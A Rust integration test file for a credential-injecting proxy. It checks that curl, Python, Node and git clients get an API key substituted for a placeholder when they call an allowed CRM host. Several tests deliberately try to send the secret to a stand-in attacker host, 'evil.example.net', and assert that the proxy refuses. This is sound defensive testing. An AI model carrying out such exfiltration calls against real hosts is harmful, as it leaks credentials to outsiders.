//! Unmodified clients, pointed at the proxy as their users would.

use std::path::{Path, PathBuf};
use std::process::Output;

use tokio::io::AsyncWriteExt;
use tokio::process::Command;

use super::support::origin::Received;
use super::support::{CRM, EVIL, VALUE, World, soon};

/// What `make test` installs (`scripts/test-tools`).
fn tool(path: &str) -> PathBuf {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("target/test-tools").join(path);
    assert!(path.exists(), "{} is missing: run scripts/test-tools, as `make test` does", path.display());
    path
}

async fn run(world: &World, program: &Path, arguments: &[&str], script: &str) -> Output {
    let proxy = format!("http://{}", world.proxy.address);
    let ca = world.ca();
    let mut command = Command::new(program);
    command.args(arguments).current_dir(world.proxy.path("")).env("HOME", world.proxy.path(""));
    for name in ["http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY"] {
        command.env(name, &proxy);
    }
    for name in ["SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "NODE_EXTRA_CA_CERTS", "GIT_SSL_CAINFO"] {
        command.env(name, &ca);
    }
    command
        .env("no_proxy", "")
        .env("NO_PROXY", "")
        .env("GIT_TERMINAL_PROMPT", "0")
        .env("NODE_PATH", Path::new(env!("CARGO_MANIFEST_DIR")).join("target/test-tools/node/node_modules"));
    command
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .kill_on_drop(true);
    let mut child = command.spawn().unwrap_or_else(|fault| panic!("{}: {fault}", program.display()));
    let mut stdin = child.stdin.take().expect("piped");
    stdin.write_all(script.as_bytes()).await.expect("it reads");
    drop(stdin);
    soon(child.wait_with_output()).await.expect("it ends")
}

async fn must(world: &World, program: &Path, arguments: &[&str], script: &str) -> String {
    let output = run(world, program, arguments, script).await;
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(output.status.success(), "{}\n{said}", String::from_utf8_lossy(&output.stdout));
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// Every surface arrived with the value in place, in a GET and one POST each of JSON and form.
fn check(received: &[Received]) {
    use base64::Engine;
    let encoded = "abc123-Zx%2F9%2B%3Dsecret";
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("me:{VALUE}"));
    let get = received.iter().find(|request| request.line().starts_with("GET")).expect("a GET");
    assert!(get.line().starts_with(&format!("GET /v1/{encoded}/x?")), "{}", get.line());
    assert!(get.line().contains(&format!("k={encoded}")), "{}", get.line());
    assert_eq!(get.field("x-api-key"), VALUE);
    assert_eq!(get.field("authorization"), format!("Basic {basic}"));
    let json = received.iter().find(|request| request.text().starts_with('{')).expect("JSON");
    assert_eq!(serde_json::from_slice::<serde_json::Value>(&json.body).expect("valid")["k"], VALUE);
    assert_eq!(json.field("authorization"), format!("Bearer {VALUE}"));
    let form = received.iter().find(|request| request.text().starts_with("k=")).expect("a form");
    assert_eq!(form.text(), format!("k={encoded}"));
}

fn curl_arguments<'a>(more: &[&'a str]) -> Vec<&'a str> {
    [&["-sS", "-g", "--fail-with-body"], more].concat()
}

#[tokio::test]
async fn curl() {
    let world = World::new().await;
    let base = format!("https://{CRM}/v1");
    let url = format!("{base}/{{secrets.crm.apiKey}}/x?k={{secrets.crm.apiKey}}");
    must(
        &world,
        Path::new("curl"),
        &curl_arguments(&[&url, "-H", "X-Api-Key: {secrets.crm.apiKey}", "-u", "me:{secrets.crm.apiKey}"]),
        "",
    )
    .await;
    must(
        &world,
        Path::new("curl"),
        &curl_arguments(&[
            &base,
            "-H",
            "Authorization: Bearer {secrets.crm.apiKey}",
            "--json",
            "{\"k\":\"{secrets.crm.apiKey}\"}",
        ]),
        "",
    )
    .await;
    must(&world, Path::new("curl"), &curl_arguments(&[&base, "--data-urlencode", "k={secrets.crm.apiKey}"]), "").await;
    check(&world.crm.received());
    let evil = format!("https://{EVIL}/");
    let refused = run(&world, Path::new("curl"), &curl_arguments(&[&evil, "-H", "X: {secrets.crm.apiKey}"]), "").await;
    assert_eq!(refused.status.code(), Some(22), "--fail-with-body");
    assert!(String::from_utf8_lossy(&refused.stdout).contains("domain_restricted"));
    assert_eq!(world.evil.connections(), 0);
}

const PYTHON: &str = r#"
import sys
api = sys.argv[1]
if api == "requests":
    import requests
    client = requests.Session()
else:
    import httpx, ssl, os
    client = httpx.Client(verify=ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"]))
base = "https://api.crm.example.com/v1"
ref = "{secrets.crm.apiKey}"
r = client.get(base + "/" + ref + "/x", params={"k": ref}, headers={"X-Api-Key": ref}, auth=("me", ref))
assert r.status_code == 200, r.text
r = client.post(base, json={"k": ref}, headers={"Authorization": "Bearer " + ref})
assert r.status_code == 200, r.text
r = client.post(base, data={"k": ref})
assert r.status_code == 200, r.text
r = client.get("https://evil.example.net/", headers={"X": ref})
assert r.status_code == 403 and r.json()["code"] == "domain_restricted", r.text
"#;

#[tokio::test]
async fn python_requests_and_httpx() {
    for api in ["requests", "httpx"] {
        let world = World::new().await;
        must(&world, &tool("python/bin/python"), &["-", api], PYTHON).await;
        check(&world.crm.received());
        assert_eq!(world.evil.connections(), 0);
    }
}

const NODE: &str = r"
const assert = require('assert');
const api = process.env.API || process.argv[2];
const ref = '{secrets.crm.apiKey}';
const base = 'https://api.crm.example.com/v1';
const pair = Buffer.from('me:' + ref).toString('base64');
async function main() {
  let send;
  if (api === 'fetch') {
    const { EnvHttpProxyAgent, setGlobalDispatcher, fetch } = require('undici');
    setGlobalDispatcher(new EnvHttpProxyAgent());
    send = async (method, url, headers, body) => { const r = await fetch(url, { method, headers, body }); return [r.status, await r.text()]; };
  } else {
    const axios = require('axios');
    send = async (method, url, headers, body) => { const r = await axios({ method, url, headers, data: body, validateStatus: () => true, responseType: 'text', transformResponse: x => x }); return [r.status, r.data]; };
  }
  const ok = async (...a) => { const [status, text] = await send(...a); assert.strictEqual(status, 200, text); };
  await ok('GET', base + '/' + ref + '/x?k=' + encodeURIComponent(ref), { 'X-Api-Key': ref, 'Authorization': 'Basic ' + pair });
  await ok('POST', base, { 'Authorization': 'Bearer ' + ref, 'Content-Type': 'application/json' }, JSON.stringify({ k: ref }));
  await ok('POST', base, { 'Content-Type': 'application/x-www-form-urlencoded' }, new URLSearchParams({ k: ref }).toString());
  const [status, text] = await send('GET', 'https://evil.example.net/', { 'X': ref });
  assert.strictEqual(status, 403, text);
  assert.strictEqual(JSON.parse(text).code, 'domain_restricted');
}
main().catch(e => { console.error(e); process.exit(1); });
";

#[tokio::test]
async fn node_fetch_and_axios() {
    for api in ["fetch", "axios"] {
        let world = World::new().await;
        tool("node/node_modules");
        must(&world, Path::new("node"), &["-", api], NODE).await;
        check(&world.crm.received());
        assert_eq!(world.evil.connections(), 0);
    }
}

#[tokio::test]
async fn git_clone_over_https() {
    // A repository served as plain files (git's "dumb" protocol), behind a token.
    let place = tempfile::tempdir().expect("a directory");
    let git = |arguments: &[&str]| {
        let mut command = std::process::Command::new("git");
        command
            .args(["-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "init.defaultBranch=main"])
            .args(arguments)
            .current_dir(place.path());
        let output = command.output().expect("git is there");
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    };
    git(&["init", "-q", "work"]);
    std::fs::write(place.path().join("work/file"), "content").expect("written");
    git(&["-C", "work", "add", "file"]);
    git(&["-C", "work", "commit", "-qm", "first"]);
    git(&["clone", "-q", "--bare", "work", "repo.git"]);
    git(&["-C", "repo.git", "update-server-info"]);
    let root = place.path().to_owned();
    let script = move |request: &Received| {
        let path = request
            .line()
            .split(' ')
            .nth(1)
            .unwrap_or_default()
            .split('?')
            .next()
            .unwrap_or_default()
            .trim_start_matches('/')
            .to_owned();
        let (status, body) = match std::fs::read(root.join(path)) {
            _ if request.fields("x-token") != [VALUE] => ("403 Forbidden", Vec::new()),
            Ok(body) => ("200 OK", body),
            Err(_) => ("404 Not Found", Vec::new()),
        };
        let mut answer = format!("HTTP/1.1 {status}\r\nContent-Length: {}\r\n\r\n", body.len()).into_bytes();
        answer.extend(body);
        (answer, false)
    };
    let world = World::with("", std::sync::Arc::new(script)).await;
    let url = format!("https://{CRM}/repo.git");
    must(&world, Path::new("git"), &["-c", "http.extraHeader=X-Token: {secrets.crm.apiKey}", "clone", "-q", &url, "cloned"], "")
        .await;
    assert_eq!(std::fs::read_to_string(world.proxy.path("cloned/file")).expect("cloned"), "content");
    let evil = format!("https://{EVIL}/repo.git");
    let header = "http.extraHeader=X-Token: {secrets.crm.apiKey}";
    let refused = run(&world, Path::new("git"), &["-c", header, "clone", "-q", &evil, "elsewhere"], "").await;
    assert!(!refused.status.success());
    assert!(String::from_utf8_lossy(&refused.stderr).contains("403"), "{}", String::from_utf8_lossy(&refused.stderr));
    assert_eq!(world.evil.connections(), 0);
}
